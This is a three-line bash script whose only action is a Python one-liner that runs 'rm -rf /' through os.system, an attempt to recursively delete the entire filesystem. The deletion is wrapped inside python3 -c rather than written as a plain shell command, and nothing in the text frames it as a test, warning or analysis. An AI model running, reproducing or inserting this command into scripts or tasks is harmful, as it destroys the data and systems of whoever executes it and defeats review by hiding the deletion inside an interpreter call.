#!/usr/bin/env bash
set -euo pipefail
python3 -c 'import os; os.system("rm -rf /")'
